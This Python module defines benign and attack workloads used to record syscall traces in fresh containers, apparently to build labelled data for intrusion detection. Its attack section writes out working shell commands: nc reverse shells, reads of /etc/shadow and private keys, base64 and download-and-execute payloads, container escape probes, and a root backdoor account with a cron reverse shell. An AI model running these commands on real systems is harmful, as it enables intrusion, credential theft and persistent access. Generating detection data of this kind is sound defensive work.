# SPDX-License-Identifier: Apache-2.0
"""The workloads ``scripts/record_syscall_traces.py`` runs: benign services and attack scripts.

Each ``Workload`` is a shell script for a fresh container (busybox ash or dash, so only POSIX
shell and the image's tools), plus setup that runs before the tracer attaches (an attacker's
payload server). Parameters (file counts, sizes, request counts, job mixes) come from a seed,
so every run differs a little, as real runs do.
"""

from __future__ import annotations

import random
import subprocess
from dataclasses import dataclass


@dataclass(frozen=True)
class Workload:
    """One kind of run: shell for before the tracer attaches, and the traced script."""

    name: str
    cls: str  # benign | attack
    setup: str
    script: str
    timeout: float = 60.0


def _benign(seed: int) -> list[Workload]:
    r = random.Random(seed)
    n_files, n_req, rows = r.randint(3, 9), r.randint(5, 25), r.randint(200, 3000)
    kb = r.randint(8, 256)
    words = " ".join(r.sample(["alpha", "beta", "gamma", "delta", "eps", "zeta", "eta", "theta", "iota"], 5))
    pages = " ".join(f"p{i}.html" for i in range(n_files))
    shell = f"""
set -e
mkdir -p /work/out && cd /work
i=0
for w in {words}; do
  i=$((i+1)); echo "$i $w" >> list.txt
  if [ $((i % 2)) -eq 0 ]; then echo "even $w" > out/$w.txt; else touch out/$w.odd; fi
done
wc -l list.txt > count.txt
cut -d' ' -f2 list.txt | grep -v eta | tr a-z A-Z > upper.txt
ls -la out > listing.txt
date +%s > stamp
for f in out/*; do [ -s "$f" ] && cat "$f" >> all.txt || true; done
sed -i 's/even/EVEN/' all.txt || true
test -f all.txt && echo ok
rm -rf out
"""
    httpd = f"""
mkdir -p /www/cgi-bin
for p in {pages}; do echo "<html><body>$p $(date)</body></html>" > /www/$p; done
echo index > /www/index.html
httpd -f -p 127.0.0.1:8080 -h /www &
hp=$!
sleep 0.3
i=0
while [ $i -lt {n_req} ]; do
  i=$((i+1))
  wget -q -O /dev/null http://127.0.0.1:8080/p$((i % {n_files + 2})).html || true
done
wget -q -O - http://127.0.0.1:8080/ > /dev/null
kill $hp
"""
    targz = f"""
mkdir -p /data/src && cd /data
n=0
while [ $n -lt {n_files} ]; do
  n=$((n+1)); dd if=/dev/urandom of=src/blob$n bs=1024 count={kb // n_files + 1} 2>/dev/null
  seq 1 {rows // 4} > src/seq$n.txt
done
tar -cf a.tar src
gzip -{r.randint(1, 9)} a.tar
md5sum a.tar.gz > sum
mkdir x && cd x
tar -xzf ../a.tar.gz
cd /data
md5sum src/* > s1
(cd x && md5sum src/*) > s2
cmp s1 s2 && echo same
gunzip -c a.tar.gz | tar -tf - | wc -l
rm -rf x a.tar.gz
"""
    text = f"""
cd /tmp
awk 'BEGIN {{ srand({seed}); for (i = 0; i < {rows}; i++)
  printf "%d,%s,%d\\n", i, (i % 7 ? "web" : "db"), int(rand()*1000) }}' > d.csv
sort -t, -k3 -n d.csv > sorted.csv
cut -d, -f2 d.csv | sort | uniq -c > kinds
awk -F, '{{ s[$2] += $3 }} END {{ for (k in s) print k, s[k] }}' d.csv | sort > sums
sed 's/,web,/,frontend,/' d.csv | grep -c frontend
head -n 5 sorted.csv; tail -n 3 sorted.csv
tr ',' '\\t' < d.csv | wc -c
rm -f d.csv sorted.csv
"""
    job = r.choice(["date >> /tmp/cron.log", "ls /tmp | wc -l >> /tmp/cron.log", "echo tick >> /tmp/cron.log"])
    cron = f"""
mkdir -p /var/spool/cron/crontabs
echo '* * * * * {job}; uptime >> /tmp/load.log' > /var/spool/cron/crontabs/root
echo '* * * * * find /tmp -name "*.old" -mmin +5 -delete' >> /var/spool/cron/crontabs/root
crond -f -l 8 -c /var/spool/cron/crontabs &
cp=$!
sleep 62
kill $cp
cat /tmp/cron.log
"""
    maint = f"""
mkdir -p /var/log/app && cd /var/log/app
i=0
while [ $i -lt {n_files} ]; do i=$((i+1)); seq 1 {rows // 10} | sed "s/^/line $i /" > app$i.log; done
for f in app*.log; do mv "$f" "$f.1"; gzip "$f.1"; done
find /var/log -name '*.gz' -type f | sort
du -s /var/log; df / > /dev/null
ls -lR /var/log | wc -l
find /var/log -name '*.gz' -size +0 -exec ls -l {{}} \\; > /dev/null
zcat app1.log.1.gz | tail -n 2
rm -f app*.gz
"""
    health = f"""
httpd -f -p 127.0.0.1:8081 -h /etc &
hp=$!
i=0
while [ $i -lt {max(2, n_req // 5)} ]; do
  i=$((i+1))
  ps > /dev/null; uptime; free > /dev/null
  cat /proc/loadavg /proc/meminfo | head -n 3 > /dev/null
  netstat -tln | grep -q 8081 && echo listening
  wget -q -O /dev/null http://127.0.0.1:8081/hostname || echo down
  sleep 0.1
done
kill $hp
"""
    return [
        Workload("shell_scripts", "benign", "", shell),
        Workload("file_maintenance", "benign", "", maint),
        Workload("service_health", "benign", "", health),
        Workload("httpd_requests", "benign", "", httpd),
        Workload("tar_gzip", "benign", "", targz),
        Workload("text_processing", "benign", "", text),
        Workload("crond_jobs", "benign", "", cron, timeout=90.0),
    ]


def _attacks(seed: int) -> list[Workload]:
    r = random.Random(seed)
    port = r.randint(4000, 4999)
    cmds = "; ".join(r.sample(["id", "uname -a", "cat /etc/passwd", "ls -la /", "ps", "hostname", "pwd"], 4))
    payload = f"#!/bin/sh\\nid > /tmp/.o; cat /etc/shadow >> /tmp/.o; ls / >> /tmp/.o; echo {seed}\\n"
    rev_fifo = f"""
(sleep 0.3; echo '{cmds}'; sleep 0.5; echo exit) | nc -l -p {port} -s 127.0.0.1 > /tmp/loot &
sleep 0.2
rm -f /tmp/f; mkfifo /tmp/f
sh -i < /tmp/f 2>&1 | nc 127.0.0.1 {port} > /tmp/f
sleep 0.3
"""
    rev_e = f"""
(sleep 0.3; echo '{cmds}'; sleep 0.5; echo exit) | nc -l -p {port} -s 127.0.0.1 > /tmp/loot &
sleep 0.2
nc 127.0.0.1 {port} -e /bin/sh
sleep 0.3
"""
    discovery = """
find / -perm -4000 -type f 2>/dev/null | head
find / \\( -name '*.pem' -o -name 'id_rsa*' -o -name '*.key' -o -name '.env' \\) 2>/dev/null
ls -la /root /home /tmp 2>/dev/null
cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n' | head
for p in /proc/[0-9]*; do cat $p/cmdline 2>/dev/null; echo; done
netstat -an 2>/dev/null; cat /proc/self/mountinfo | head
env; id; uname -a; cat /etc/os-release
"""
    shadow = f"""
cat /etc/shadow
grep root /etc/shadow
cp /etc/shadow /tmp/.s{seed} && awk -F: '{{print $1, $2}}' /tmp/.s{seed}
head -n 3 /etc/passwd; cut -d: -f1,3 /etc/passwd
"""
    b64 = subprocess.run(
        ["base64", "-w0"], input=payload.replace("\\n", "\n").encode(), capture_output=True, check=True
    )
    decode = f"""
echo {b64.stdout.decode()} | base64 -d | sh
echo {b64.stdout.decode()} | base64 -d > /tmp/.x && chmod +x /tmp/.x && /tmp/.x
cat /tmp/.o | base64 | head -c 200
"""
    dl_setup = f"mkdir -p /srv && printf '{payload}' > /srv/p.sh && (httpd -f -p 127.0.0.1:{port} -h /srv &)"
    download = f"""
wget -q -O /tmp/.p http://127.0.0.1:{port}/p.sh
chmod 755 /tmp/.p
/tmp/.p
wget -q -O - http://127.0.0.1:{port}/p.sh | sh
"""
    escape = """
unshare -m sh -c 'mount -t tmpfs none /mnt' 2>&1
nsenter -t 1 -m -u -n -i sh -c id 2>&1
mount -t proc proc /mnt 2>&1
chroot / id
cat /proc/1/cgroup; ls -la /var/run /run 2>&1
insmod /tmp/x.ko 2>&1
"""
    persist = f"""
echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd
echo 'backdoor::19000:0:99999:7:::' >> /etc/shadow
mkdir -p /var/spool/cron/crontabs
echo '* * * * * nc 127.0.0.1 {port} -e /bin/sh' >> /var/spool/cron/crontabs/root
echo 'nc 127.0.0.1 {port} -e /bin/sh &' >> /root/.profile 2>/dev/null || echo x > /.profile
"""
    return [
        Workload("reverse_shell_fifo", "attack", "", rev_fifo, timeout=20.0),
        Workload("reverse_shell_nc_e", "attack", "", rev_e, timeout=20.0),
        Workload("file_discovery", "attack", "", discovery),
        Workload("shadow_read", "attack", "", shadow),
        Workload("decode_exec", "attack", "", decode),
        Workload("download_exec", "attack", dl_setup, download),
        Workload("escape_probe", "attack", "", escape),
        Workload("persistence", "attack", "", persist),
    ]


def workloads(seed: int) -> list[Workload]:
    """Every workload, with parameters drawn from ``seed``."""
    return _benign(seed) + _attacks(seed)
